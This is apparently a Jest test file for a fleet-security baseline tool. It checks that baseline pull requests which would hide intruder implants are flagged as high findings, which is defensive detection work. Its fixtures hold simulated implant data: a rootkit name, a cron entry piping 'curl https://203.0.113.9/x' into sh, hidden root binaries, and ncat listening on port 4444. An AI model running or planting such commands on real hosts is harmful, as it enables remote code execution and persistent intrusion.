import { expect, test } from '@jest/globals'
import { SEVERITIES, type Severity } from '../../src/analyze/finding.ts'
import { assess } from '../../src/assess.ts'
import type { Acceptance, Baseline, BaselineQuery } from '../../src/baseline/baseline.ts'
import type { HostRecord, Row } from '../../src/snapshot/snapshot.ts'
import { fleet, hostId, QUERIES } from '../support/fleets.ts'
import { learnedFrom, review, TODAY } from '../support/reviews.ts'

const clean = await learnedFrom(fleet(30))

/** What an intruder does on one host: a row of a query, or no row where a protection was stopped. */
const IMPLANTS: readonly (readonly [query: string, row: Row | null])[] = [
  ['modules', { name: 'diamorphine' }],
  ['cron', { path: '/etc/cron.d/x', command: 'curl https://203.0.113.9/x | sh' }],
  ['cron', { path: '/etc/crontab', command: 'run-parts --report /etc/cron.daily # evil1' }],
  ['programs', { path: '/opt/.x/agent', username: 'root' }],
  ['programs', { path: '/usr/sbin/cron2', username: 'root' }],
  ['ports', { protocol: '6', port: '4444', path: '/usr/bin/ncat' }],
  ['ports', { protocol: '6', port: '443', path: '/usr/bin/ncat' }],
  ['guards', null]
]
const WORDS = [
  ...[
    '<rand>',
    '<num>',
    '<hex>',
    '/opt/<rand>',
    '/usr/sbin/<rand>',
    '/usr/<rand>/<rand>',
    '/<rand>/.<rand>/<rand>'
  ],
  ...[
    '/etc/cron.d/<rand>',
    '/usr/bin/<rand>',
    'run-parts --report /etc/cron.daily # <rand>',
    '6',
    '443',
    'root'
  ],
  'curl https://<num>.<num>.<num>.<num>/<rand> | sh'
]
const GLOBS = [
  '*',
  '?*',
  '/etc/*',
  '*cron*',
  '/usr/*',
  'root',
  'dia*',
  '/usr/bin/ncat',
  '4444',
  '6',
  'auditd',
  ''
]

let state = 20260930
/** A fixed sequence, so that a failure comes again. */
const next = () => {
  state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
  return state / 2 ** 32
}
const pick = <T>(values: readonly T[]): T => values[Math.floor(next() * values.length)]!

const infected = ([name, row]: (typeof IMPLANTS)[number]) =>
  fleet(30, (index, rows) => {
    if (index !== 4) return
    if (row === null) rows[name] = []
    else rows[name]?.push(row)
  })

/** What a pull request does to a query of a baseline. */
const CHANGES: Readonly<
  Record<string, (query: BaselineQuery, row: string[], blurred: string[]) => Partial<Baseline>>
> = {
  'adds a row': (query, row) => ({ queries: { q: { ...query, optional: [...query.optional, row] } } }),
  'requires a row': (query, row) => ({ queries: { q: { ...query, required: [...query.required, row] } } }),
  'adds a pattern': (query, _, blurred) => ({
    queries: { q: { ...query, optional: [...query.optional, blurred] } }
  }),
  'requires a pattern': (query, _, blurred) => ({
    queries: { q: { ...query, required: [...query.required, blurred] } }
  }),
  'knows nothing any more': query => ({ queries: { q: { ...query, required: [], optional: [] } } }),
  'requires nothing any more': query => ({
    queries: { q: { ...query, required: [], optional: [...query.optional, ...query.required] } }
  }),
  'drops the query': () => ({ queries: {} }),
  'has other columns': query => ({
    queries: { q: { columns: [...query.columns, 'extra'], required: [], optional: [] } }
  }),
  'adds a role': ({ columns }, row, blurred) => ({
    roles: { a: { queries: {} }, b: { queries: { q: { columns, required: [], optional: [row, blurred] } } } }
  }),
  'moves the query to a role': query => ({
    queries: {},
    roles: { a: { queries: { q: query } }, b: { queries: {} } }
  }),
  accepts: ({ columns }, row) => ({
    accept: [accepted(Object.fromEntries(columns.map((column, at) => [column, row[at] ?? ''])))]
  }),
  'accepts one host': ({ columns }, row) => ({
    accept: [accepted({ [columns[0]!]: row[0] ?? '' }, [hostId(4)])]
  }),
  'accepts by wildcards': ({ columns }) => ({
    accept: [accepted({ [pick(columns)]: pick(GLOBS) }, pick([undefined, ['*'], ['i-*']]))]
  })
}

function accepted(match: Record<string, string>, hosts?: string[]): Acceptance {
  const more = hosts === undefined ? {} : { hosts }
  return { query: 'q', match, reason: 'load test', owner: '@acme', expires: '2026-12-31', ...more }
}

/** A baseline after a change of one query. */
function changed(baseline: Baseline, name: string, change: keyof typeof CHANGES, row: Row | null): Baseline {
  const query = baseline.queries[name]!
  const values = query.columns.map((column, at) => row?.[column] ?? ['auditd', 'inactive'][at] ?? '')
  const blurred = values.map(value => (next() < 0.5 ? value : pick(WORDS)))
  const { queries, roles = {}, accept = [] } = CHANGES[change]!(query, values, blurred)
  const named = (place: Baseline['queries']) =>
    Object.fromEntries(Object.values(place).map(value => [name, distinct(value)]))
  const { [name]: _, ...others } = baseline.queries
  return {
    ...baseline,
    queries: queries === undefined ? baseline.queries : { ...others, ...named(queries) },
    roles: Object.fromEntries(
      Object.entries(roles).map(([label, role]) => [label, { queries: named(role.queries) }])
    ),
    accept: [...baseline.accept, ...accept.map(one => ({ ...one, query: name }))]
  }
}

function distinct(query: BaselineQuery): BaselineQuery {
  const rows = (list: string[][], others: string[][]) =>
    [...new Map(list.map(row => [JSON.stringify(row), row])).entries()]
      .filter(([key]) => !others.some(other => JSON.stringify(other) === key))
      .map(([, row]) => row)
  return { ...query, required: rows(query.required, []), optional: rows(query.optional, query.required) }
}

const rank = (severity: Severity) => SEVERITIES.indexOf(severity)
const worst = (findings: readonly { severity: Severity; acceptedBy: string | null }[]) =>
  Math.min(
    SEVERITIES.length,
    ...findings.flatMap(({ severity, acceptedBy }) => (acceptedBy === null ? [rank(severity)] : []))
  )
const judged = async (hosts: readonly HostRecord[], baseline: Baseline) =>
  worst(
    (
      await assess({ queries: QUERIES, indicators: [], today: TODAY, baseline }, async function* () {
        yield* hosts
      })
    ).findings
  )

test.each(Object.keys(CHANGES))(
  'a pull request that %s and would hide an implant is a high finding',
  async change => {
    for (const implant of IMPLANTS) {
      const [name, row] = implant
      const hosts = infected(implant)
      const proposed = changed(clean, name, change, row)
      const before = await judged(hosts, clean)
      const isHidden = before <= rank('medium') && (await judged(hosts, proposed)) > before
      if (!isHidden) continue
      for (const seen of [fleet(30), hosts]) {
        const { poisoned } = await review(seen, clean, proposed)
        expect([implant, proposed.accept, worst(poisoned)]).toEqual([implant, proposed.accept, rank('high')])
      }
    }
  }
)
